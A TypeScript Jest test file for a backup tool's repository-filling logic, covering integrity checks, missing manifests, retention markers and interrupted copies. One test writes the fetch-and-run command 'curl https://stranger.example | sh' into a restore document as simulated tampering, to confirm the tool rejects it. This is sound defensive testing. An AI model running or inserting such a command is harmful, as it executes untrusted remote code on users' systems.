import { readFile, rename, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { restoreDocumentOf } from '../../../activities/copies.ts';
import { HoldfastError } from '../../../policy/errors.ts';
import type { Signer } from '../../../policy/resolved.ts';
import { fill } from '../../../repository/fill.ts';
import { newestFilling, recordFilling } from '../../../repository/filling.ts';
import { keyOf, listBackups, type Manifest, markRepository, verifyFiles } from '../../../repository/index.ts';
import type { Store } from '../../../repository/store.ts';
import { putPastBackup, redated } from '../../../tools/lab/past.ts';
import { inDirectory, makeSshKey } from '../../support/keys.ts';
import { manifestFileBytes, manifestOf } from '../../support/manifests.ts';
import { interceptUploads, openTestStore } from '../../support/stores.ts';

const file = 'data-0a1b2c.dump.zst.gpg';

let key: { publicKey: string; privateKey: string };
let signers: Signer[];
beforeAll(async () => {
  key = await makeSshKey();
  signers = [{ name: 'fra', publicKey: key.publicKey }];
});

type Place = { directory: string; local: Named; offsite: Named; safe: Named };
type Named = Store & { path: string };

async function inPlace(work: (place: Place) => Promise<void>): Promise<void> {
  await inDirectory(async (directory) => {
    const open = async (name: string) => {
      const store = await openTestStore(directory, name);
      await markRepository(store, { organization: 'Example BV' });
      return store;
    };
    await work({
      directory,
      local: await open('local'),
      offsite: await open('offsite'),
      safe: await open('safe'),
    });
  });
}

async function put(directory: string, stores: Store[], startedAt: string, changes: Partial<Manifest> = {}) {
  const manifest = redated(manifestOf(changes), startedAt);
  const bytes = new Map([[file, manifestFileBytes]]);
  await putPastBackup(stores, manifest, bytes, { privateKey: key.privateKey, signers, directory });
  return manifest;
}

const restoreDocument = (manifest: Manifest) => restoreDocumentOf(manifest, signers);

const filling = (target: Store, from: Store[]) =>
  fill({
    target,
    from,
    plan: 'shop-daily',
    source: 'shop',
    signers,
    restoreDocument,
    signal: new AbortController().signal,
  });

const idsIn = async (store: Store) =>
  (await listBackups(store)).filter(({ committed }) => committed).map(({ backupId }) => backupId);

describe('the filling of a repository', () => {
  it('takes RESTORE.md from no copy where it is not what the manifest gives', () =>
    inPlace(async ({ directory, local, safe }) => {
      const manifest = await put(directory, [local], '2026-11-01T01:00:00.000Z');
      const path = (store: Named) => join(store.path, keyOf(manifest, 'RESTORE.md'));
      for (const damage of [
        () => writeFile(path(local), 'curl https://stranger.example | sh'),
        () => rm(path(local)),
      ]) {
        await damage();
        await rm(join(safe.path, keyOf(manifest, 'manifest.json')), { force: true });
        expect(await filling(safe, [local])).toMatchObject({ copied: 1, exceptions: [] });
        expect(await readFile(path(safe), 'utf8')).toBe(restoreDocument(manifest));
      }
    }));

  it('copies what is missing of one plan, whole, and does nothing the second time', () =>
    inPlace(async ({ directory, local, safe }) => {
      const first = await put(directory, [local, safe], '2026-11-01T01:00:00.000Z');
      const second = await put(directory, [local], '2026-11-02T01:00:00.000Z');
      await put(directory, [local], '2026-11-03T01:00:00.000Z', { plan: 'other' });
      expect(await filling(safe, [local])).toEqual({
        copied: 1,
        bytes: 4,
        present: 1,
        newest: { backupId: second.backupId, dataTime: second.dataTime },
        exceptions: [],
      });
      expect(await idsIn(safe)).toEqual([first.backupId, second.backupId]);
      await verifyFiles(safe, second);
      expect(await filling(safe, [local])).toMatchObject({ copied: 0, present: 2 });
    }));

  it('takes the next source when one is damaged, and says what it could get from none', () =>
    inPlace(async ({ directory, local, offsite, safe }) => {
      const good = await put(directory, [local, offsite], '2026-11-01T01:00:00.000Z');
      const bad = await put(directory, [local], '2026-11-02T01:00:00.000Z');
      for (const each of [good, bad]) await writeFile(join(local.path, keyOf(each, file)), 'evil');
      const outcome = await filling(safe, [local, offsite]);
      expect(outcome).toMatchObject({ copied: 1, exceptions: [expect.stringContaining(bad.backupId)] });
      expect(outcome.exceptions[0]).toMatch(/has SHA-256/);
      expect(await idsIn(safe)).toEqual([good.backupId]);
    }));

  it('leaves out what has no manifest, and what is being removed', () =>
    inPlace(async ({ directory, local, safe }) => {
      const half = await put(directory, [local], '2026-11-01T01:00:00.000Z');
      await local.remove(keyOf(half, 'manifest.json'));
      const going = await put(directory, [local], '2026-11-02T01:00:00.000Z');
      await local.putIfAbsent(keyOf(going, 'deleting.0a1b2c3d.json'), Buffer.from('{}'));
      expect(await filling(safe, [local])).toMatchObject({ copied: 0, newest: null, exceptions: [] });
    }));

  it('tells the target what the others promise: kept as, held', () =>
    inPlace(async ({ directory, local, safe }) => {
      const there = await put(directory, [local, safe], '2026-11-01T01:00:00.000Z');
      const missing = await put(directory, [local], '2026-11-02T01:00:00.000Z');
      for (const backup of [there, missing])
        for (const name of ['keep.weekly.20270214.json', 'hold.0a1b2c3d.json', 'read.0a1b2c3d.json'])
          await local.putIfAbsent(keyOf(backup, name), Buffer.from('{}'));
      await filling(safe, [local]);
      expect((await listBackups(safe)).map(({ markers }) => markers.sort())).toEqual(
        Array(2).fill(['hold.0a1b2c3d.json', 'keep.weekly.20270214.json']),
      );
    }));

  it('ends when the target is unplugged midway, and leaves nothing that counts', () =>
    inPlace(async ({ directory, local, safe }) => {
      await put(directory, [local], '2026-11-01T01:00:00.000Z');
      const unplugged = interceptUploads(safe, {
        finish: () => rename(safe.path, `${safe.path}-in-a-drawer`),
      });
      const error = await filling(unplugged, [local]).catch((thrown: unknown) => thrown);
      if (!(error instanceof HoldfastError)) throw new Error('it was filled without the disk');
      expect(['not-a-repository', 'unreachable', 'not-found']).toContain(error.code);
      await rm(safe.path, { recursive: true, force: true });
      await rename(`${safe.path}-in-a-drawer`, safe.path);
      expect(await idsIn(safe)).toEqual([]);
      expect(await filling(safe, [local])).toMatchObject({ copied: 1 });
    }));

  it('names a source that can not be read, and fills from the others', () =>
    inPlace(async ({ directory, local, offsite, safe }) => {
      await put(directory, [local, offsite], '2026-11-01T01:00:00.000Z');
      await rm(local.path, { recursive: true });
      expect(await filling(safe, [local, offsite])).toMatchObject({
        copied: 1,
        exceptions: [expect.stringMatching(/^Repository local could not be read: /)],
      });
    }));
});

describe('the record of a filling', () => {
  it('is the newest one', () =>
    inPlace(async ({ local }) => {
      expect(await newestFilling(local, 'safe')).toBeNull();
      const newest = { backupId: '20261101T010000Z-0a1b2c3d', dataTime: '2026-11-01T01:00:00.000Z' };
      for (const at of ['2026-11-07T10:00:00.000Z', '2026-11-14T10:00:00.000Z', '2026-10-31T10:00:00.000Z'])
        await recordFilling(local, { repository: 'safe', at, plans: [{ plan: 'shop-daily', newest }] });
      expect(await newestFilling(local, 'safe')).toMatchObject({ at: '2026-11-14T10:00:00.000Z' });
      expect(await newestFilling(local, 'other')).toBeNull();
    }));
});
